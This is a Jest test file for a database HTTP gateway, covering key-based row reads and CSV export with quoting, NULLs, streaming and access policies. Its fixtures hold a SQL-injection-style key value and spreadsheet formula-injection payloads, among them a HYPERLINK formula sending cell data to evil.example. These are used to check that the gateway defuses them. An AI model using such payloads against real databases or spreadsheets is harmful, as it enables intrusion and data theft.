/**
 * `GET /table/<t>/read(<key>,<value>)` and `Accept: text/csv` end to end on MariaDB/MySQL over
 * HTTP (docs/reading.md): one row by its primary or a unique key, as an object; CSV checked by a
 * real CSV parser (csv-parse) against the JSON answer of the same read — quotes, commas, line
 * breaks, NULL, the empty string, non-ASCII text, exact numbers, expanded relations — streamed
 * when large; and under a policy, the same columns and rows as JSON.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { USERS_TABLE } from '../../src/db/schema.js';
import { createTestDatabase, type TestDatabase } from '../helpers/database.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';

const FIXTURE = `
CREATE TABLE people (id INT PRIMARY KEY, email VARCHAR(100) NOT NULL UNIQUE,
  nick VARCHAR(30) NULL UNIQUE, name VARCHAR(100) NULL, city VARCHAR(30) NULL,
  amount DECIMAL(20,4) NULL, big BIGINT NULL, doc JSON NULL, data VARBINARY(8) NULL,
  at DATETIME(3) NULL, owner INT NOT NULL DEFAULT 1);
INSERT INTO people VALUES
  (1, 'ann@x.test', 'ann', 'Ann "the ""quoted"" one", Esq.', 'Zürich', 12.5000, 9007199254740993,
   '{"a": [1, "x,y"]}', 0x00ff, '2024-05-01 10:00:00.250', 1),
  (2, 'bob@x.test', NULL, 'line one\\nline two\\r\\nthree', '東京', -0.0001, -5, NULL, NULL, NULL, 2),
  (3, 'cy@x.test', '', '', NULL, NULL, NULL, 'null', '', NULL, 1);
CREATE TABLE pets (id INT PRIMARY KEY, person_id INT NOT NULL, name VARCHAR(20) NOT NULL,
  FOREIGN KEY (person_id) REFERENCES people (id));
INSERT INTO pets VALUES (1, 1, 'Rex, the dog'), (2, 1, 'Tom'), (3, 2, 'Kit');
CREATE TABLE slots (day DATE NOT NULL, room INT NOT NULL, who VARCHAR(20), PRIMARY KEY (day, room),
  UNIQUE KEY by_who (who, room));
INSERT INTO slots VALUES ('2024-01-01', 1, 'ann');
CREATE TABLE notes (id INT PRIMARY KEY, body VARCHAR(100) NULL, n INT NULL, d DECIMAL(5,1) NULL,
  js JSON NULL, t TIME NULL, kind ENUM('-', '=x', 'a') NULL);
INSERT INTO notes VALUES
  (1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', -5, -2.5, '-5', '-01:00:00', '-'),
  (2, '+1+2', NULL, NULL, '"=x"', NULL, '=x'),
  (3, '-2+3', NULL, NULL, '[-1]', NULL, 'a'),
  (4, '@SUM(A1:A2)', NULL, NULL, NULL, NULL, NULL),
  (5, '\\tx', NULL, NULL, NULL, NULL, NULL),
  (6, '\\r=1', NULL, NULL, NULL, NULL, NULL),
  (7, 'a=b, -c', NULL, NULL, NULL, NULL, NULL);
CREATE TABLE bulk (id INT PRIMARY KEY, v VARCHAR(50));
INSERT INTO bulk SELECT seq, CONCAT('value "', seq, '", with, commas') FROM seq_1_to_20000;
`;

const POLICY = {
  roles: {
    user: {
      tables: {
        people: {
          read: { where: 'owner eq @user.id', columns: ['id', 'email', 'name', 'city'] },
        },
      },
    },
  },
};

let db: TestDatabase;
let open: TestGateway;
let guarded: TestGateway;
let dir: string;
let token: string;

async function get(
  gateway: TestGateway,
  url: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; headers: Headers; text: string }> {
  const response = await fetch(`${gateway.url}${url}`, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const CSV = { accept: 'text/csv' };
const records = (text: string): string[][] => parse(text, { relax_column_count: false });

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'tablegate-csv-'));
  const file = path.join(dir, 'policy.json');
  await writeFile(file, JSON.stringify(POLICY));
  db = await createTestDatabase(FIXTURE);
  open = await startTestGateway(db.name);
  guarded = await startTestGateway(db.name, {
    mode: 'auth',
    jwtSecret: 'key-read-csv-secret-0123456789abcdefghijklmnop',
    policyFile: file,
  });
  const credentials = { email: 'owner@x.test', password: 'correct horse battery' };
  const post = (url: string) =>
    fetch(`${guarded.url}${url}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(credentials),
    });
  await post('/auth/register');
  // The first user has id 1: the owner of people 1 and 3.
  await db.admin.query(`UPDATE ${USERS_TABLE} SET id = 1 WHERE email = 'owner@x.test'`);
  token = ((await (await post('/auth/login')).json()) as { token: string }).token;
});

afterAll(async () => {
  await open?.close();
  await guarded?.close();
  await db?.drop();
  await rm(dir, { recursive: true, force: true });
});

describe('read(<key>,<value>)', () => {
  test('by the primary key: the row as an object, $select and $expand applied', async () => {
    const answer = await get(
      open,
      '/table/people/read(id,2)?$select=id,name&$expand=pets($select=name)',
    );
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(JSON.parse(answer.text)).toEqual({
      id: 2,
      name: 'line one\nline two\r\nthree',
      pets: [{ name: 'Kit' }],
    });
  });

  test('by a unique column, the value written as update takes it', async () => {
    const answer = await get(open, `/table/people/read(email,'ann@x.test')?$select=id,big,amount`);
    expect(answer.text).toBe('{"id":1,"big":"9007199254740993","amount":12.5000}');
    const empty = await get(open, "/table/people/read(nick,'')?$select=id");
    expect(JSON.parse(empty.text)).toEqual({ id: 3 });
  });

  test('no such row: 404 ROW_NOT_FOUND; a hostile value is only a value', async () => {
    for (const url of [
      '/table/people/read(id,99)',
      `/table/people/read(email,'${encodeURIComponent("x'' OR ''1''=''1")}')`,
    ]) {
      const answer = await get(open, url);
      expect(answer.status).toBe(404);
      expect(JSON.parse(answer.text)).toEqual({
        success: false,
        message: "No row of 'people' has that key",
        code: 'ROW_NOT_FOUND',
      });
    }
  });

  test.each<[string, string]>([
    ['/table/people/read(name,Ann)', "Column 'name' is not the primary key or a unique key"],
    ['/table/slots/read(room,1)', "Column 'room' is not the primary key or a unique key"],
    ['/table/slots/read(who,ann)', "Column 'who' is not the primary key or a unique key"],
    ['/table/people/read(nick,null)', 'read(nick,null) matches no row by a key'],
    ['/table/people/read(id,1)?$filter=id%20eq%201', 'takes $select and $expand only, not $filter'],
    ['/table/people/read(id,1)?$top=1', 'not $top'],
    ['/table/people/read(nope,1)', "Column 'nope' does not exist in table 'people'"],
    ['/table/people/read(id,abc)', 'abc'],
    ['/table/people/read(id)', 'a comma and a value must follow the key'],
  ])('%s: 400', async (url, message) => {
    const answer = await get(open, url);
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text).message).toContain(message);
  });

  test('an unknown table is 404 before the key is looked at; another action is 404', async () => {
    expect((await get(open, '/table/nope/read(id)')).status).toBe(404);
    const other = await get(open, '/table/people/fetch(id,1)');
    expect(other.status).toBe(404);
    expect(JSON.parse(other.text).code).toBe('NOT_FOUND');
  });

  test('under a policy: only readable columns, only rows inside the where, hidden keys unknown', async () => {
    const auth = { authorization: `Bearer ${token}` };
    const own = await get(guarded, '/table/people/read(id,1)', auth);
    expect(JSON.parse(own.text)).toEqual({
      id: 1,
      email: 'ann@x.test',
      name: 'Ann "the ""quoted"" one", Esq.',
      city: 'Zürich',
    });
    const other = await get(guarded, '/table/people/read(id,2)', auth);
    expect(other.status).toBe(404);
    expect(JSON.parse(other.text).code).toBe('ROW_NOT_FOUND');
    const hidden = await get(guarded, "/table/people/read(nick,'ann')", auth);
    expect(hidden.status).toBe(400);
    expect(JSON.parse(hidden.text).code).toBe('UNKNOWN_COLUMN');
  });
});

describe('Accept: text/csv', () => {
  test('RFC 4180 as a real parser reads it: what JSON holds, NULL empty, "" for an empty string', async () => {
    const url = '/table/people/read?$select=id,name,city,amount,big,doc,data,at,nick&$orderby=id';
    const csv = await get(open, url, CSV);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('vary')).toContain('Accept');
    expect(csv.text.endsWith('\r\n')).toBe(true);
    expect(records(csv.text)).toEqual([
      ['id', 'name', 'city', 'amount', 'big', 'doc', 'data', 'at', 'nick'],
      [
        '1',
        'Ann "the ""quoted"" one", Esq.',
        'Zürich',
        '12.5000',
        '9007199254740993',
        '{"a": [1, "x,y"]}',
        'AP8=',
        '2024-05-01 10:00:00.250',
        'ann',
      ],
      ['2', 'line one\nline two\r\nthree', '東京', '-0.0001', '-5', '', '', '', ''],
      ['3', '', '', '', '', 'null', '', '', ''],
    ]);
    // NULL is an empty field, an empty value a quoted one: "" (row 3's name, data and nick).
    expect(csv.text.split('\r\n').at(-2)).toBe('3,"",,,,null,"",,""');
    // The same values as the JSON answer, cell by cell.
    const json = JSON.parse((await get(open, url)).text) as Record<string, unknown>[];
    const [, ...rows] = records(csv.text);
    rows.forEach((row, r) => {
      const object = json[r] as Record<string, unknown>;
      Object.values(object).forEach((value, c) => {
        const expected =
          value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
        if (c !== 3 && c !== 5) expect(row[c]).toBe(expected);
      });
    });
  });

  test('expanded relations hold their JSON in the cell; a key read is a header and a record', async () => {
    const csv = await get(
      open,
      '/table/people/read?$select=id&$expand=pets($select=name)&$top=2&$orderby=id',
      CSV,
    );
    expect(records(csv.text)).toEqual([
      ['id', 'pets'],
      ['1', '[{"name":"Rex, the dog"},{"name":"Tom"}]'],
      ['2', '[{"name":"Kit"}]'],
    ]);
    const one = await get(open, '/table/pets/read(id,3)?$expand=person($select=email)', CSV);
    expect(records(one.text)).toEqual([
      ['id', 'person_id', 'name', 'person'],
      ['3', '2', 'Kit', '{"email":"bob@x.test"}'],
    ]);
  });

  test('a text cell a spreadsheet would run as a formula gets a quote first; numbers stay', async () => {
    const csv = await get(open, '/table/notes/read?$orderby=id', CSV);
    expect(csv.status).toBe(200);
    expect(csv.text).toBe(
      [
        'id,body,n,d,js,t,kind',
        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5,-2.5,-5,-01:00:00,'-`,
        `2,'+1+2,,,"""=x""",,'=x`,
        `3,'-2+3,,,[-1],,a`,
        `4,'@SUM(A1:A2),,,,,`,
        `5,'\tx,,,,,`,
        `6,"'\r=1",,,,,`,
        `7,"a=b, -c",,,,,`,
        '',
      ].join('\r\n'),
    );
    // JSON is left as it is.
    const json = JSON.parse((await get(open, '/table/notes/read(id,6)')).text) as { body: string };
    expect(json.body).toBe('\r=1');
    // A key read's record the same.
    expect((await get(open, '/table/notes/read(id,4)?$select=body', CSV)).text).toBe(
      "body\r\n'@SUM(A1:A2)\r\n",
    );
  });

  test('--csv-formulas keep writes the text as it is', async () => {
    const keep = await startTestGateway(db.name, { csvFormulas: 'keep' });
    try {
      const csv = await get(keep, '/table/notes/read?$select=body,js,kind&$orderby=id&$top=3', CSV);
      expect(records(csv.text)).toEqual([
        ['body', 'js', 'kind'],
        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '-5', '-'],
        ['+1+2', '"=x"', '=x'],
        ['-2+3', '[-1]', 'a'],
      ]);
    } finally {
      await keep.close();
    }
  });

  test('no rows: the header alone; $count still in its header', async () => {
    const csv = await get(
      open,
      '/table/people/read?$select=id,name&$filter=id%20gt%209&$count=true',
      CSV,
    );
    expect(csv.text).toBe('id,name\r\n');
    expect(csv.headers.get('x-total-count')).toBe('0');
  });

  test('a large read streams (chunked, no Content-Length) and parses whole', async () => {
    const csv = await get(open, '/table/bulk/read?$orderby=id', CSV);
    expect(csv.headers.get('content-length')).toBeNull();
    const parsed = records(csv.text);
    expect(parsed).toHaveLength(20_001);
    expect(parsed[20_000]).toEqual(['20000', 'value "20000", with, commas']);
  });

  test('Accept decides by quality and exactness; JSON otherwise', async () => {
    const type = async (accept: string) =>
      (await get(open, '/table/pets/read?$top=1', { accept })).headers.get('content-type');
    expect(await type('text/csv, */*')).toBe('text/csv; charset=utf-8');
    expect(await type('application/json;q=0.5, text/csv')).toBe('text/csv; charset=utf-8');
    expect(await type('text/*')).toBe('text/csv; charset=utf-8');
    expect(await type('text/csv, application/json')).toBe('application/json; charset=utf-8');
    expect(await type('text/csv;q=0.2, application/json;q=0.8')).toBe(
      'application/json; charset=utf-8',
    );
    expect(await type('text/html,application/xhtml+xml,*/*;q=0.8')).toBe(
      'application/json; charset=utf-8',
    );
  });

  test('an error is JSON whatever Accept says', async () => {
    const answer = await get(open, '/table/people/read?$select=nope', CSV);
    expect(answer.status).toBe(400);
    expect(answer.headers.get('content-type')).toContain('application/json');
  });

  test('under a policy CSV shows what JSON shows', async () => {
    const auth = { authorization: `Bearer ${token}` };
    const csv = await get(guarded, '/table/people/read?$orderby=id', { ...auth, ...CSV });
    const json = JSON.parse((await get(guarded, '/table/people/read?$orderby=id', auth)).text);
    expect(records(csv.text)).toEqual([
      ['id', 'email', 'name', 'city'],
      ...json.map((row: Record<string, unknown>) =>
        Object.values(row).map((v) => (v === null ? '' : String(v))),
      ),
    ]);
    expect(json.map((row: { id: number }) => row.id)).toEqual([1, 3]);
  });
});
